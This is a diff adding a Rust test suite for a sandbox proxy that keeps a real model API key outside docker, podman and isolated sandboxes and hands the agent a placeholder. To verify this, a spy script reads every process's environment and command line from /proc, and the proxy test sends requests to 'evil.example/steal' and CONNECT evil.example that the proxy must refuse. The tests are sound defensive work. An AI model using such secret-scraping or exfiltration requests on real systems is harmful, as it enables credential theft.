@@ -1,0 +1,335 @@
+//! Held keys (`sandbox.hold_keys`, on by default): the real Claude Code CLI in docker, podman
+//! and isolated sandboxes, against the scripted model server behind TLS (a test CA made here,
+//! trusted by eden's proxy through `SSL_CERT_FILE`, verification on). The server receives the
+//! real key; inside the sandbox only a placeholder exists; the proxy refuses what it must.
+
+use crate::containers::IMAGE;
+use crate::model_server::ModelServer;
+use crate::support::{Run, TestEnv};
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+
+/// A TLS front for the model server on 127.0.0.1 with a certificate for `localhost` from a CA of
+/// the test's own; it keeps the head of every request it passed on.
+pub struct TlsFront {
+    pub port: u16,
+    pub ca: PathBuf,
+    pub heads: Arc<Mutex<Vec<String>>>,
+    _dir: tempfile::TempDir,
+}
+
+impl TlsFront {
+    pub fn start(backend: u16) -> TlsFront {
+        let dir = tempfile::tempdir().unwrap();
+        let ca_key = rcgen::KeyPair::generate().unwrap();
+        let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
+        ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
+        ca_params.distinguished_name.push(rcgen::DnType::CommonName, "eden test CA");
+        let ca = rcgen::CertifiedIssuer::self_signed(ca_params, ca_key).unwrap();
+        let key = rcgen::KeyPair::generate().unwrap();
+        let cert = rcgen::CertificateParams::new(vec!["localhost".to_owned()]).unwrap().signed_by(&key, &ca).unwrap();
+        let ca_path = dir.path().join("ca.pem");
+        std::fs::write(&ca_path, ca.pem()).unwrap();
+        let provider = Arc::new(rustls::crypto::ring::default_provider());
+        let config = rustls::ServerConfig::builder_with_provider(provider)
+            .with_safe_default_protocol_versions()
+            .unwrap()
+            .with_no_client_auth()
+            .with_single_cert(
+                vec![cert.der().clone()],
+                rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
+            )
+            .unwrap();
+        let config = Arc::new(config);
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let heads = Arc::new(Mutex::new(Vec::new()));
+        let noted = heads.clone();
+        std::thread::spawn(move || {
+            for client in listener.incoming().flatten() {
+                let (config, noted) = (config.clone(), noted.clone());
+                std::thread::spawn(move || relay(client, config, backend, noted));
+            }
+        });
+        TlsFront { port, ca: ca_path, heads, _dir: dir }
+    }
+
+    pub fn url(&self) -> String {
+        format!("https://localhost:{}", self.port)
+    }
+
+    pub fn heads(&self) -> String {
+        self.heads.lock().unwrap().join("\n")
+    }
+}
+
+/// One TLS connection to the backend, plain; the head of the request noted.
+fn relay(client: TcpStream, config: Arc<rustls::ServerConfig>, backend: u16, noted: Arc<Mutex<Vec<String>>>) {
+    let Ok(session) = rustls::ServerConnection::new(config) else { return };
+    let mut tls = rustls::StreamOwned::new(session, client);
+    let Ok(mut server) = TcpStream::connect(("127.0.0.1", backend)) else { return };
+    let mut buffer = vec![0u8; 65536];
+    let mut request = Vec::new();
+    // The request: its head, then its body as long as it says.
+    while !request.windows(4).any(|w| w == b"\r\n\r\n") {
+        match tls.read(&mut buffer) {
+            Ok(0) | Err(_) => return,
+            Ok(n) => request.extend_from_slice(&buffer[..n]),
+        }
+    }
+    let end = request.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
+    let head = String::from_utf8_lossy(&request[..end]).into_owned();
+    noted.lock().unwrap().push(head.clone());
+    let length: usize = head
+        .lines()
+        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse().unwrap_or(0)))
+        .unwrap_or(0);
+    while request.len() < end + length {
+        match tls.read(&mut buffer) {
+            Ok(0) | Err(_) => return,
+            Ok(n) => request.extend_from_slice(&buffer[..n]),
+        }
+    }
+    if server.write_all(&request).is_err() {
+        return;
+    }
+    loop {
+        match server.read(&mut buffer) {
+            Ok(0) | Err(_) => break,
+            Ok(n) => {
+                if tls.write_all(&buffer[..n]).and_then(|()| tls.flush()).is_err() {
+                    break;
+                }
+            }
+        }
+    }
+    tls.conn.send_close_notify();
+    let _ = tls.flush();
+}
+
+/// A key no one could mistake for anything else.
+const KEY: &str = "sk-ant-held-4711-real-key";
+
+/// The agent: a script that writes what every process in the sandbox has in its environment
+/// and on its command line into `dump`, then runs the real Claude Code.
+fn spy(dir: &Path, claude: &str, dump: &str) -> PathBuf {
+    let path = dir.join("spy.sh");
+    std::fs::write(
+        &path,
+        format!(
+            "#!/bin/sh\nfor p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done > {dump}/procs.txt\nenv > {dump}/env.txt\nexec {claude} \"$@\"\n"
+        ),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    path
+}
+
+fn agent_env(front: &TlsFront) -> String {
+    format!(
+        "env = {{ ANTHROPIC_BASE_URL = \"{}\", ANTHROPIC_API_KEY = \"{KEY}\", DISABLE_TELEMETRY = \"1\", \
+         CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC = \"1\", CLAUDE_CODE_MAX_RETRIES = \"0\" }}",
+        front.url()
+    )
+}
+
+/// Runs `manifest` with the proxy trusting the test CA; checks the server got the real key,
+/// the record names what was held, the log audits the requests, and the key is in neither.
+fn run_held(env: &TestEnv, front: &TlsFront, server: &ModelServer, manifest: &str) -> Run {
+    let path = env.write_manifest(manifest);
+    let mut command = env.eden_command(&["run", path.to_str().unwrap(), "--json"]);
+    command.envs(crate::real_agents::claude_env(env, server));
+    command.env("SSL_CERT_FILE", &front.ca).env("ANTHROPIC_API_KEY", "not-this-one");
+    let run = Run::from(command.output().unwrap());
+    run.assert_code(0);
+    let heads = front.heads();
+    assert!(heads.contains(&format!("x-api-key: {KEY}")), "the server gets the real key:\n{heads}");
+    assert!(!heads.contains("eden-held-"), "no placeholder reaches the server:\n{heads}");
+    assert_eq!(env.log_subjects("main")[0], "add hello.txt");
+    let log = std::fs::read_dir(env.repo.join(".eden/logs")).unwrap().flatten().next().unwrap().path();
+    let log = std::fs::read_to_string(log).unwrap();
+    assert!(log.contains("\"event\":\"provider_request\"") && log.contains("\"path\":\"/v1/messages\""), "{log}");
+    assert!(!log.contains(KEY) && !run.stdout.contains(KEY) && !run.stderr.contains(KEY));
+    let shown = env.eden(&["sessions", "show", "last"]);
+    assert!(shown.stdout.contains("provider: POST localhost:"), "{}", shown.stdout);
+    run
+}
+
+fn in_container(engine: &str) {
+    let Some(claude) = crate::real_agents::require("claude") else { return };
+    if !crate::containers::ready(engine) {
+        return;
+    }
+    let env = TestEnv::new();
+    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
+    let front = TlsFront::start(server.port);
+    let dump = env.root().join("dump");
+    std::fs::create_dir_all(&dump).unwrap();
+    let spy = spy(env.root(), "/opt/claude", "/dump");
+    let claude = std::fs::canonicalize(claude).unwrap();
+    // No network at all in the container: model traffic has only the proxy's socket.
+    let manifest = format!(
+        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"claude-code\"\nbinary = \"/opt/spy\"\n{}\n\
+         [sandbox]\nkind = \"{engine}\"\nimage = \"{IMAGE}\"\nnetwork = \"none\"\n\
+         mounts = [{{ host = \"{}\", sandbox = \"/opt/claude\", read_only = true }}, {{ host = \"{}\", sandbox = \"/opt/spy\", read_only = true }}, {{ host = \"{}\", sandbox = \"/dump\" }}]\n\
+         [loop]\nmax_iterations = 1\nidle_timeout = \"90s\"\n",
+        agent_env(&front),
+        claude.display(),
+        spy.display(),
+        dump.display()
+    );
+    let run = run_held(&env, &front, &server, &manifest);
+    let procs = std::fs::read_to_string(dump.join("procs.txt")).unwrap();
+    let agent = std::fs::read_to_string(dump.join("env.txt")).unwrap();
+    assert!(agent.contains("ANTHROPIC_API_KEY=eden-held-"), "the agent has a placeholder:\n{agent}");
+    assert!(agent.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:"), "{agent}");
+    assert!(!procs.contains(KEY) && !agent.contains(KEY), "the key is in the sandbox:\n{procs}");
+    let record = run.json();
+    let name = record["container"]["name"].as_str().unwrap();
+    assert!(name.starts_with("eden-"));
+    let dry = env.eden(&["run", env.root().join("plan.toml").to_str().unwrap(), "--dry-run"]);
+    let dry = dry.json();
+    assert_eq!(dry["plan"]["steps"][0]["held"]["held"], "keys", "{dry:#}");
+    assert_eq!(dry["plan"]["steps"][0]["held"]["upstream"], front.url());
+    assert_eq!(dry["plan"]["steps"][0]["held"]["keys"][0]["var"], "ANTHROPIC_API_KEY");
+    assert!(!dry.to_string().contains(KEY));
+    // Nothing in the worktree or the branch carries the key.
+    let grep =
+        std::process::Command::new("git").args(["grep", "-q", KEY, "main"]).current_dir(&env.repo).status().unwrap();
+    assert!(!grep.success());
+}
+
+#[test]
+fn docker_holds_the_key() {
+    in_container("docker");
+}
+
+#[test]
+fn podman_holds_the_key() {
+    in_container("podman");
+}
+
+#[test]
+fn isolated_holds_the_key() {
+    let Some(claude) = crate::real_agents::require("claude") else { return };
+    if !crate::isolated::bwrap() {
+        return;
+    }
+    let env = TestEnv::new();
+    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
+    let front = TlsFront::start(server.port);
+    // Inside, only the copy, its TMPDIR and the state folders are writable: the spy writes in
+    // TMPDIR, and copies out what it saw through its own output (stderr).
+    let spy = env.root().join("spy.sh");
+    std::fs::write(
+        &spy,
+        format!(
+            "#!/bin/sh\nfor p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done > \"$TMPDIR/procs.txt\"\n\
+             if grep -q '{KEY}' \"$TMPDIR/procs.txt\"; then echo KEY-INSIDE >&2; else echo KEY-NOT-INSIDE >&2; fi\n\
+             env | grep ANTHROPIC_API_KEY= | sed 's/^/SPY /' >&2\nexec {} \"$@\"\n",
+            std::fs::canonicalize(claude).unwrap().display()
+        ),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&spy, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let manifest = format!(
+        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"claude-code\"\nbinary = \"{}\"\n{}\n\
+         [sandbox]\nkind = \"isolated\"\nnetwork = \"none\"\n[loop]\nmax_iterations = 1\nidle_timeout = \"90s\"\n",
+        spy.display(),
+        agent_env(&front)
+    );
+    let run = run_held(&env, &front, &server, &manifest);
+    let log = std::fs::read_dir(env.repo.join(".eden/logs")).unwrap().flatten().next().unwrap().path();
+    let log = std::fs::read_to_string(log).unwrap();
+    assert!(log.contains("KEY-NOT-INSIDE") && !log.contains("KEY-INSIDE\""), "{}", run.stderr);
+    assert!(log.contains("SPY ANTHROPIC_API_KEY=eden-held-"), "{log}");
+}
+
+/// The proxy forwards only requests that carry the run's placeholder, only to its upstream: a
+/// request without it, with another key, or for another host is refused, and audited.
+#[test]
+fn the_proxy_refuses_what_it_must() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = ModelServer::start(dir.path().to_path_buf(), false);
+    let front = TlsFront::start(server.port);
+    // The test CA as the only root (what `SSL_CERT_FILE` does for eden), verification on.
+    let mut roots = rustls::RootCertStore::empty();
+    let pem = std::fs::read(&front.ca).unwrap();
+    let der = rustls::pki_types::CertificateDer::from(pem_to_der(&pem));
+    roots.add(der).unwrap();
+    let tls = rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_root_certificates(roots)
+        .with_no_client_auth();
+    let upstream = eden::values::BaseUrl::parse(&front.url()).unwrap();
+    let key = eden::proxy::HeldKey {
+        header: eden::agent::spec::CredentialHeader::XApiKey,
+        placeholder: "eden-held-test".into(),
+        value: eden::redact::Secret(KEY.into()),
+    };
+    let socket = dir.path().join("0.sock");
+    let proxy = eden::proxy::Proxy::start_with(&socket, upstream, vec![key], Arc::new(tls)).unwrap();
+    let ask = |request: &str| {
+        let mut stream = std::os::unix::net::UnixStream::connect(&socket).unwrap();
+        stream.write_all(request.as_bytes()).unwrap();
+        let mut answer = String::new();
+        stream.read_to_string(&mut answer).unwrap();
+        answer
+    };
+    let body = "{}";
+    let good = ask(&format!("HEAD / HTTP/1.1\r\nhost: x\r\nx-api-key: eden-held-test\r\ncontent-length: 0\r\n\r\n"));
+    assert!(good.starts_with("HTTP/1.1 "), "{good}");
+    assert!(!good.starts_with("HTTP/1.1 403"), "{good}");
+    let without =
+        ask(&format!("POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n\r\n{body}", body.len()));
+    assert!(without.starts_with("HTTP/1.1 403") && without.contains("placeholders"), "{without}");
+    let other = ask("POST /v1/messages HTTP/1.1\r\nx-api-key: sk-other\r\ncontent-length: 0\r\n\r\n");
+    assert!(other.starts_with("HTTP/1.1 403"), "{other}");
+    let elsewhere = ask("GET http://evil.example/steal HTTP/1.1\r\nx-api-key: eden-held-test\r\n\r\n");
+    assert!(
+        elsewhere.starts_with("HTTP/1.1 400") && elsewhere.contains("only requests for the provider"),
+        "{elsewhere}"
+    );
+    let connect = ask("CONNECT evil.example:443 HTTP/1.1\r\nx-api-key: eden-held-test\r\n\r\n");
+    assert!(connect.starts_with("HTTP/1.1 400"), "{connect}");
+    let heads = front.heads();
+    assert_eq!(heads.matches("HEAD / HTTP/1.1").count(), 1, "only the good request went out:\n{heads}");
+    assert!(heads.contains(&format!("x-api-key: {KEY}")) && heads.contains("Host: localhost:"), "{heads}");
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    let audit = proxy.drain();
+    assert!(audit.iter().any(|a| a.status == Some(403) && a.refused.is_some()), "{audit:?}");
+    drop(proxy);
+    assert!(!socket.exists(), "the socket goes with the proxy");
+    assert!(std::os::unix::net::UnixStream::connect(&socket).is_err(), "nothing listens afterwards");
+}
+
+/// The one certificate in a PEM file, as DER.
+fn pem_to_der(pem: &[u8]) -> Vec<u8> {
+    let text = String::from_utf8_lossy(pem);
+    let body: String = text.lines().filter(|line| !line.starts_with("-----")).collect();
+    base64_decode(&body)
+}
+
+fn base64_decode(text: &str) -> Vec<u8> {
+    let value = |c: u8| match c {
+        b'A'..=b'Z' => c - b'A',
+        b'a'..=b'z' => c - b'a' + 26,
+        b'0'..=b'9' => c - b'0' + 52,
+        b'+' => 62,
+        _ => 63,
+    };
+    let bytes: Vec<u8> = text.bytes().filter(|c| *c != b'=' && !c.is_ascii_whitespace()).map(value).collect();
+    bytes
+        .chunks(4)
+        .flat_map(|chunk| {
+            let n = chunk.iter().enumerate().fold(0u32, |n, (i, v)| n | (u32::from(*v) << (18 - 6 * i)));
+            let out = [(n >> 16) as u8, (n >> 8) as u8, n as u8];
+            out[..chunk.len() - 1].to_vec()
+        })
+        .collect()
+}
